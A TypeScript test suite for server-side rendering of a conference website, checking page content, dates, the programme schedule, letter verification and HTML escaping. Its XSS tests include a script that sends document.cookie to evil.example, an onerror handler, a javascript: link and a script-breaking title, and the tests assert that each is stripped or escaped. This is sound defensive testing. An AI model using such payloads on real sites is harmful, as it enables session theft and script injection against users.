import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { LETTER_TEXTS } from '@shared/domain/letters.ts';
import { PAGE_QUERIES_ID } from '@shared/page-rendering.ts';
import type { PublishedProgramme } from '@shared/schemas/programme.ts';
import { committeeMembers, letters } from '../db/schema/index.ts';
import { PROJECT_ROOT } from '../project-paths.ts';
import { createTestPaper, createTestUser, type TestUser } from '../test/factories.ts';
import { OPEN_DEADLINES } from '../test/open-deadlines.ts';
import { API, createTestApp, type TestApp } from '../test/test-app.ts';

const SHELL =
  '<!doctype html><html lang="en"><head><meta\n      name="description"\n      content="ICTACEM 2025: the conference." />\n<title>ICTACEM 2025</title></head><body><div id="root"></div><script type="module" src="/ictacem2025/assets/index.js"></script></body></html>';
/** The renderer from source, as the built server bundle (dist/ssr/entry-server.js) runs it. */
const RENDERER = path.join(PROJECT_ROOT, 'src', 'client', 'entry-server.tsx');

/** Each public page with its heading and a sentence of its main text, as a reader without JavaScript gets them. */
const PUBLIC_PAGES = [
  {
    path: '',
    h1: 'ICTACEM 2025',
    text: 'International Conference on Theoretical, Applied, Computational and Experimental Mechanics',
  },
  { path: 'about', h1: 'About ICTACEM 2025', text: 'It is the ninth edition of a con' },
  { path: 'about-us', h1: 'About Us', text: 'Information about the organizers of the conference is to be announced.' },
  { path: 'important-dates', h1: 'Important Dates', text: 'Accommodation in the campus guest houses' },
  { path: 'speakers', h1: 'Speakers', text: 'The invited speakers will be listed here once they are confirmed.' },
  { path: 'committee', h1: 'Committee', text: 'Organizing Committee' },
  { path: 'sponsorship', h1: 'Sponsorship', text: 'Sponsorship Tiers' },
  { path: 'brochure', h1: 'Conference Brochure', text: 'About the conference and its history' },
  { path: 'extended-abstract-format', h1: 'Extended Abstract Format', text: 'Notes for authors' },
  { path: 'full-length-paper-format', h1: 'Full-Length Paper Format', text: 'Notes for authors' },
  { path: 'verify-letter', h1: 'Verify a Letter', text: 'carry a verification code at the bottom of the page' },
  { path: 'registration', h1: 'Sign Up', text: 'Already have an account?' },
  { path: 'schedule', h1: 'Event Schedule', text: 'The programme will be published here' },
] as const;

/** What a browser without JavaScript shows: the root element's markup. */
function rootOf(html: string): string {
  const start = html.indexOf('<div id="root">');
  const end = html.indexOf(`<script type="application/json" id="${PAGE_QUERIES_ID}">`);
  expect(start, 'root element').toBeGreaterThanOrEqual(0);
  return html.slice(start, end < 0 ? undefined : end);
}

const h1Of = (html: string) => /<h1[^>]*>(.*?)<\/h1>/s.exec(rootOf(html))?.[1]?.replace(/<!-- -->/g, '');

/** The query cache the page was rendered with, as the client reads it (main.tsx). */
function pageQueriesOf(html: string): { queries: { queryKey: unknown[]; state: { data: unknown } }[] } {
  const json = new RegExp(`<script type="application/json" id="${PAGE_QUERIES_ID}">(.*?)</script>`, 's').exec(
    html,
  )?.[1];
  expect(json, 'page queries').toBeDefined();
  return JSON.parse(json!);
}
const queryData = (html: string, key: string) =>
  pageQueriesOf(html).queries.find((query) => query.queryKey.join('/') === key)?.state.data;

/** Every script of the page is a file or data: the CSP (script-src 'self') allows nothing inline. */
function inlineScripts(html: string): string[] {
  return [...html.matchAll(/<script([^>]*)>/g)]
    .map((match) => match[1]!)
    .filter((attributes) => !/\bsrc=/.test(attributes) && !/type="application\/json"/.test(attributes));
}

describe('public pages rendered on the server', () => {
  let root: string;
  let t: TestApp;
  let admin: TestUser;

  beforeAll(async () => {
    root = await mkdtemp(path.join(os.tmpdir(), 'ictacem-ssr-'));
    await writeFile(path.join(root, 'index.html'), SHELL);
    t = await createTestApp({ clientDir: root, pageRendererModule: RENDERER, conferenceDates: OPEN_DEADLINES });
    admin = await createTestUser(t.app, { role: 'admin' });
  });
  afterAll(async () => {
    await t.close();
    await rm(root, { recursive: true, force: true });
  });

  const get = (url: string, cookie?: string) => t.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });

  it('carry their heading and main text in the HTML, with the shell, its <meta> and no inline script', async () => {
    for (const page of PUBLIC_PAGES) {
      const res = await get(`/ictacem2025/${page.path}`);
      expect(res.statusCode, page.path).toBe(200);
      expect(res.headers['cache-control'], page.path).toBe('private, no-cache');
      expect(res.headers.vary, page.path).toMatch(/Cookie/i);
      expect(h1Of(res.body), page.path).toBe(page.h1);
      expect(rootOf(res.body), page.path).toContain(page.text);
      expect(res.body, page.path).toContain('<meta name="conference-dates" content="');
      expect(res.body, page.path).toContain('<meta name="site-session" content="');
      expect(res.body, page.path).toContain('<script type="module" src="/ictacem2025/assets/index.js"></script>');
      expect(inlineScripts(res.body), page.path).toEqual([]);
      // Nothing left for the client to fill in: no loading state where the page's text belongs
      // (a PDF's preview waits for the browser, which alone knows whether it can show one).
      expect(rootOf(res.body), page.path).not.toMatch(/Loading(?! preview)/);
    }
  });

  it('names the page in its <title> and description, escaped', async () => {
    const about = (await get('/ictacem2025/about')).body;
    expect(about).toContain('<title>About | ICTACEM 2025</title>');
    expect(about).toMatch(
      /<meta\s+name="description"\s+content="About ICTACEM 2025: the conference, its four themes and the host institute campus in West Bengal, India."/,
    );
    expect(about).not.toContain('ICTACEM 2025: the conference.');
    expect((await get('/ictacem2025/schedule')).body).toContain('<title>Event Schedule | ICTACEM 2025</title>');
    expect((await get('/ictacem2025/')).body).toContain('<title>ICTACEM 2025</title>');
    expect((await get('/ictacem2025/no-such-page')).body).toContain('<title>Page Not Found | ICTACEM 2025</title>');
  });

  it('prints the dates in force, in the conference time zone, and sends them as the query cache', async () => {
    const dates = (await get(`${API}/settings/deadlines`)).json().dates;
    const res = await get('/ictacem2025/important-dates');
    expect(queryData(res.body, 'settings/deadlines')).toEqual(dates);
    // OPEN_DEADLINES: the conference from 4 to 6 January 2100, its days in the header and the timeline.
    expect(rootOf(res.body)).toContain('4-6 January 2100');
    expect(rootOf(res.body)).toContain('<time dateTime="2100-01-04">');

    // The same page while its data holds (rendered once, kept); moved dates show at once.
    expect((await get('/ictacem2025/important-dates')).body).toBe(res.body);
    const moveTo = async (payload: object) => {
      const saved = await t.app.inject({
        method: 'PUT',
        url: `${API}/admin/settings/deadlines`,
        headers: { cookie: admin.cookie },
        payload,
      });
      expect(saved.statusCode, saved.body).toBe(200);
    };
    await moveTo({ conferenceStarts: '2100-01-05T09:00:00+05:30', conferenceEnds: '2100-01-07T18:00:00+05:30' });
    expect(rootOf((await get('/ictacem2025/important-dates')).body)).toContain('5-7 January 2100');
    await moveTo({ conferenceStarts: dates.conferenceStarts, conferenceEnds: dates.conferenceEnds });
    expect((await get('/ictacem2025/important-dates')).body).toBe(res.body);
  });

  it('draws the content files’ texts into the HTML and sends them as the query cache; named members on Committee', async () => {
    const about = await get('/ictacem2025/about');
    const content = (await get(`${API}/site-content`)).json().content;
    expect(queryData(about.body, 'site/content')).toEqual(content);
    // The placeholders filled in: the conference's names and its days in force.
    expect(rootOf(about.body)).toContain(
      '<p>ICTACEM 2025 is the International Conference on Theoretical, Applied, Computational and Experimental Mechanics.',
    );
    expect(rootOf(about.body)).toContain('<p>The conference takes place on 4-6 January 2100 on the campus');
    // Pages not drawn from the files carry none of it.
    expect(queryData((await get('/ictacem2025/schedule')).body, 'site/content')).toBeUndefined();

    const committee = async () => rootOf((await get('/ictacem2025/committee')).body);
    expect(await committee()).toMatch(/Programme Committee<\/h2><p[^>]*><span[^>]*>To be announced/);
    await t.app.ctx.db.insert(committeeMembers).values([
      {
        name: '李娜',
        email: 'li.na@example.cn',
        affiliation: '浙江大学',
        themes: [],
        maxPapers: 5,
        status: 'accepted',
        listedPublicly: true,
      },
      {
        name: 'Ольга Петрова',
        email: 'olga@example.ru',
        affiliation: 'СПбГУ',
        themes: [],
        maxPapers: 5,
        status: 'accepted',
      },
    ]);
    const named = await committee();
    expect(named).toContain('李娜');
    expect(named).toContain('浙江大学');
    expect(named).not.toContain('Ольга Петрова');
  });

  it('links to the other pages under the base path', async () => {
    const res = await get('/ictacem2025/about');
    for (const href of ['/ictacem2025/important-dates', '/ictacem2025/committee', '/ictacem2025/schedule'])
      expect(rootOf(res.body)).toContain(`href="${href}"`);
  });

  it('answers an unknown page with 404 and Not Found drawn', async () => {
    const res = await get('/ictacem2025/no-such-page');
    expect(res.statusCode).toBe(404);
    expect(h1Of(res.body)).toBe('Page Not Found');
  });

  it('draws the header of whoever is signed in, and sends their session escaped', async () => {
    const name = 'Łukasz "Ł" <Nguyễn> & हिंदी 王 Ирина';
    const author = await createTestUser(t.app, { username: name });
    const res = await get('/ictacem2025/about', author.cookie);
    // The phone's bar, as the server draws for any screen: the bell for an author, Login for a visitor.
    expect(rootOf(res.body)).toContain('aria-label="Notifications"');
    expect(rootOf(res.body)).not.toContain('/ictacem2025/login');
    const visitor = rootOf((await get('/ictacem2025/about')).body);
    expect(visitor).toContain('href="/ictacem2025/login"');
    expect(visitor).not.toContain('aria-label="Notifications"');
    expect(res.body).not.toContain('<Nguyễn>');
    expect(queryData(res.body, 'site/session')).toMatchObject({ user: { _id: author.user._id, username: name } });
  });

  it('leaves the signed-in pages to the client: the shell as built', async () => {
    const res = await get('/ictacem2025/profile');
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('<div id="root"></div>');
    expect(res.body).not.toContain(PAGE_QUERIES_ID);
  });

  it('draws the published programme, names in every script, and keeps the data inside its script element', async () => {
    const at = (day: number, clock: string) => `2100-01-0${day}T${clock}:00+05:30`;
    const send = async (method: 'POST' | 'PUT', url: string, payload: object) => {
      const res = await t.app.inject({
        method,
        url: `${API}/admin/programme${url}`,
        headers: { cookie: admin.cookie },
        payload,
      });
      expect(res.statusCode, res.body).toBe(200);
      return res.json().programme as { version: number; rooms: { _id: string }[]; sessions: { _id: string }[] };
    };
    const authors = JSON.stringify([
      { name: '王芳', affiliation: '清华大学', address: '清华大学' },
      { name: 'Ирина Петрова', affiliation: 'МГУ', address: 'МГУ' },
      { name: 'अनिल कुमार', affiliation: 'IIT', address: 'IIT' },
      { name: 'Zdzisław Łukasiewicz', affiliation: 'AGH', address: 'AGH' },
      { name: 'Phạm Minh Châu', affiliation: 'HUST', address: 'HUST' },
    ]);
    const title = 'Vortex shedding </script><script>alert(1)</script> & “drag”';
    const author = await createTestUser(t.app);
    const paper = await createTestPaper(t.app, author, { title, modeOfPresentation: 'Oral', authors });
    const accepted = await t.app.inject({
      method: 'PUT',
      url: `${API}/admin/papers/${paper._id}/status`,
      headers: { cookie: admin.cookie },
      payload: { status: 'abstract_accepted', review: 'Accepted.' },
    });
    expect(accepted.statusCode, accepted.body).toBe(200);
    let programme = await send('POST', '/rooms', { name: 'Hall A — Lecture Theatre', capacity: 300, version: 0 });
    programme = await send('POST', '/sessions', {
      title: 'Fluids I',
      kind: 'oral',
      theme: 'Aerodynamics and Fluid Mechanics',
      roomId: programme.rooms[0]!._id,
      startsAt: at(4, '10:00'),
      endsAt: at(4, '11:00'),
      chairs: ['Jan Kowalski'],
      version: programme.version,
    });
    programme = await send('PUT', `/papers/${paper._id}`, {
      sessionId: programme.sessions[0]!._id,
      version: programme.version,
    });
    await send('POST', '/publish', { version: programme.version, confirmWarnings: true });

    const res = await get('/ictacem2025/schedule');
    expect(res.statusCode).toBe(200);
    const html = rootOf(res.body);
    for (const text of [
      'Fluids I',
      '王芳',
      'Ирина Петрова',
      'अनिल कुमार',
      'Zdzisław Łukasiewicz',
      'Phạm Minh Châu',
      'Hall A — Lecture Theatre',
      'Vortex shedding &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; &amp; “drag”',
      '10:00',
    ])
      expect(html).toContain(text);
    expect(html).not.toContain('The programme will be published here');
    // The title's "</script>" cannot end the data early: the cache holds it whole.
    expect(inlineScripts(res.body)).toEqual([]);
    const sent = queryData(res.body, 'programme/published') as PublishedProgramme;
    expect(sent).toEqual((await get(`${API}/programme`)).json().programme);
    expect(sent.sessions[0]!.talks[0]!.title).toBe(title);

    // The accepted paper's letter, checked at the address its QR code prints.
    const letter = await get(`${API}/papers/${paper._id}/letters/acceptance`, author.cookie);
    expect(letter.statusCode).toBe(200);
    const [row] = await t.app.ctx.db.select().from(letters).where(eq(letters.paperId, paper._id));
    const verified = await get(`/ictacem2025/verify-letter/${encodeURIComponent(row!.verificationCode)}`);
    expect(verified.statusCode).toBe(200);
    expect(rootOf(verified.body)).toContain('Genuine letter');
    expect(rootOf(verified.body)).toContain(
      'Vortex shedding &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; &amp; “drag”',
    );
    expect(inlineScripts(verified.body)).toEqual([]);
    expect(queryData(verified.body, `letters/verification/${row!.verificationCode}`)).toEqual(
      (await get(`${API}/letters/verify/${encodeURIComponent(row!.verificationCode)}`)).json(),
    );
  });

  it('draws the day the address names, all its sessions on asking, and the first day for any other', async () => {
    // After the test above: the published programme's first day, 4 January, holds "Fluids I".
    const draft = (await get(`${API}/admin/programme`, admin.cookie)).json().programme as {
      version: number;
      rooms: { _id: string }[];
    };
    let version = draft.version;
    const secondDay = [
      '流体力学 — 王芳',
      'दहन और प्रणोदन — अनिल कुमार',
      'Động lực học chất lưu — Phạm Minh Châu',
      'Turbulence — Ирина Петрова',
      'Heat transfer — Zdzisław Łukasiewicz',
      'Closing — 李明, नेहा शर्मा, Nguyễn Thị Lan',
    ];
    for (const [index, title] of secondDay.entries()) {
      const res = await t.app.inject({
        method: 'POST',
        url: `${API}/admin/programme/sessions`,
        headers: { cookie: admin.cookie },
        payload: {
          title,
          kind: 'oral',
          roomId: draft.rooms[0]!._id,
          startsAt: `2100-01-05T${String(9 + index).padStart(2, '0')}:00:00+05:30`,
          endsAt: `2100-01-05T${String(9 + index).padStart(2, '0')}:45:00+05:30`,
          chairs: [],
          version,
        },
      });
      expect(res.statusCode, res.body).toBe(200);
      version = res.json().programme.version;
    }
    const published = await t.app.inject({
      method: 'POST',
      url: `${API}/admin/programme/publish`,
      headers: { cookie: admin.cookie },
      payload: { version, confirmWarnings: true },
    });
    expect(published.statusCode, published.body).toBe(200);

    // Every day is a link the server answers, the day shown marked as the current one.
    const first = rootOf((await get('/ictacem2025/schedule')).body);
    expect(first).toContain('Fluids I');
    expect(first).toMatch(/<a href="\?day=2100-01-04" aria-current="page"/);
    expect(first).toMatch(/<a href="\?day=2100-01-05"(?! aria-current)/);
    for (const title of secondDay) expect(first).not.toContain(title);

    // The second day: its first sessions, and a link to the whole day for a reader without JavaScript.
    const second = await get('/ictacem2025/schedule?day=2100-01-05');
    expect(second.statusCode).toBe(200);
    const secondHtml = rootOf(second.body);
    expect(secondHtml).toMatch(/<a href="\?day=2100-01-05" aria-current="page"/);
    expect(secondHtml).not.toContain('Fluids I');
    for (const title of secondDay.slice(0, 4)) expect(secondHtml).toContain(title);
    for (const title of secondDay.slice(4)) expect(secondHtml).not.toContain(title);
    expect(secondHtml).toContain('href="?day=2100-01-05&amp;all=1"');
    expect(secondHtml).toContain('Show all <!-- -->6<!-- --> sessions of <!-- -->Tuesday 5 January');
    expect(inlineScripts(second.body)).toEqual([]);

    const whole = rootOf((await get('/ictacem2025/schedule?day=2100-01-05&all=1')).body);
    for (const title of secondDay) expect(whole).toContain(title);
    expect(whole).not.toContain('&amp;all=1');

    // A day the programme does not hold, or no day at all: the first day, never an error.
    for (const query of [
      'day=2100-01-09',
      'day=monday',
      `day=${'9'.repeat(2000)}`,
      'day=&all=x',
      'day[]=1&day=%E2%80%AE',
    ]) {
      const res = await get(`/ictacem2025/schedule?${query}`);
      expect(res.statusCode, query).toBe(200);
      expect(rootOf(res.body), query).toContain('Fluids I');
      expect(rootOf(res.body), query).toMatch(/<a href="\?day=2100-01-04" aria-current="page"/);
    }
  });

  it('says on the page that an unknown letter code is unknown, a trailing slash or not', async () => {
    for (const url of [
      '/ictacem2025/verify-letter/0000-0000-0000-0000',
      '/ictacem2025/Verify-Letter/0000-0000-0000-0000/',
    ]) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(200);
      expect(rootOf(res.body), url).toContain('Not verified');
      expect(rootOf(res.body), url).toContain(LETTER_TEXTS.unknownCode);
      expect(queryData(res.body, 'letters/verification/0000-0000-0000-0000'), url).toEqual({
        success: true,
        valid: false,
        letter: null,
      });
    }
  });

  it('takes a code sent by the form without JavaScript to its own address', async () => {
    const form = await get('/ictacem2025/verify-letter');
    const formTag = /<form[^>]*>/.exec(rootOf(form.body))?.[0];
    expect(formTag).toContain('method="get"');
    expect(formTag).toContain('action="/ictacem2025/verify-letter"');
    const sent = await get('/ictacem2025/verify-letter?code=%20K7QD-9XMP%2F3RTA%20');
    expect(sent.statusCode).toBe(303);
    expect(sent.headers.location).toBe('/ictacem2025/verify-letter/K7QD-9XMP%2F3RTA');
    // Nothing typed, or more than any code: the form again; a blank one says what it needs, as the live form does.
    for (const url of ['/ictacem2025/verify-letter?code=', `/ictacem2025/verify-letter?code=${'A'.repeat(257)}`]) {
      const res = await get(url);
      expect(res.statusCode, url).toBe(200);
      expect(h1Of(res.body), url).toBe('Verify a Letter');
    }
    for (const url of ['/ictacem2025/verify-letter?code=', '/ictacem2025/verify-letter?code=+++']) {
      expect(rootOf((await get(url)).body), url).toContain(LETTER_TEXTS.codeRequired);
    }
    for (const url of ['/ictacem2025/verify-letter', `/ictacem2025/verify-letter?code=${'A'.repeat(257)}`]) {
      expect(rootOf((await get(url)).body), url).not.toContain(LETTER_TEXTS.codeRequired);
    }
  });

  it('answers a code on the page no more often than the API would, then leaves it to the API', async () => {
    const url = '/ictacem2025/verify-letter/1111-2222-3333-4444';
    const fromOneAddress = () => t.app.inject({ method: 'GET', url, remoteAddress: '203.0.113.61' });
    for (let visit = 1; visit <= 60; visit++) {
      const res = await fromOneAddress();
      expect(queryData(res.body, 'letters/verification/1111-2222-3333-4444'), `visit ${visit}`).toEqual({
        success: true,
        valid: false,
        letter: null,
      });
    }
    const past = await fromOneAddress();
    expect(past.statusCode).toBe(200);
    expect(h1Of(past.body)).toBe('Verify a Letter');
    expect(queryData(past.body, 'letters/verification/1111-2222-3333-4444')).toBeUndefined();
    // Another visitor is not held back by the first.
    const other = await t.app.inject({ method: 'GET', url, remoteAddress: '198.51.100.7' });
    expect(queryData(other.body, 'letters/verification/1111-2222-3333-4444')).toBeDefined();
  });
});

describe('without a renderer that works', () => {
  let root: string;
  let t: TestApp;
  beforeAll(async () => {
    root = await mkdtemp(path.join(os.tmpdir(), 'ictacem-ssr-failing-'));
    await writeFile(path.join(root, 'index.html'), SHELL);
    const failing = path.join(root, 'failing-renderer.mjs');
    await writeFile(failing, "export const renderPage = async () => { throw new Error('render failed'); };\n");
    t = await createTestApp({ clientDir: root, pageRendererModule: failing });
  });
  afterAll(async () => {
    await t.close();
    await rm(root, { recursive: true, force: true });
  });

  it('sends the shell, which the client draws, with the status and <meta> as before', async () => {
    for (const [url, status] of [
      ['/ictacem2025/about', 200],
      ['/ictacem2025/no-such-page', 404],
    ] as const) {
      const res = await t.app.inject({ method: 'GET', url });
      expect(res.statusCode, url).toBe(status);
      expect(res.body, url).toContain('<div id="root"></div>');
      expect(res.body, url).not.toContain(PAGE_QUERIES_ID);
    }
  });
});

describe('a content file with a script, rendered on the server', () => {
  it('reaches the HTML without the script, its event handlers or a javascript: link', async () => {
    const root = await mkdtemp(path.join(os.tmpdir(), 'ictacem-ssr-content-'));
    await writeFile(path.join(root, 'index.html'), SHELL);
    const contentDir = path.join(root, 'edition', 'content');
    await cp(path.join(PROJECT_ROOT, 'content'), contentDir, { recursive: true });
    await writeFile(
      path.join(contentDir, 'campus.md'),
      [
        'Hội nghị tại **Hà Nội**.<script>document.location="https://evil.example/"+document.cookie</script>',
        '',
        '<img src="x" onerror="alert(1)">[Register](javascript:alert(1)) or [see the dates](/important-dates).',
      ].join('\n'),
    );
    const t = await createTestApp({
      clientDir: root,
      pageRendererModule: RENDERER,
      conferenceFile: path.join(root, 'edition', 'conference.yaml'),
    });
    try {
      const html = rootOf((await t.app.inject({ method: 'GET', url: '/ictacem2025/about' })).body);
      expect(html).toContain('<p>Hội nghị tại <strong>Hà Nội</strong>.</p>');
      expect(html).toContain('[Register](javascript:alert(1)) or <a class="');
      expect(html).toContain('href="/ictacem2025/important-dates"');
      expect(html).not.toMatch(/<script|onerror|evil\.example|<img|href="javascript/i);
    } finally {
      await t.close();
      await rm(root, { recursive: true, force: true });
    }
  });
});
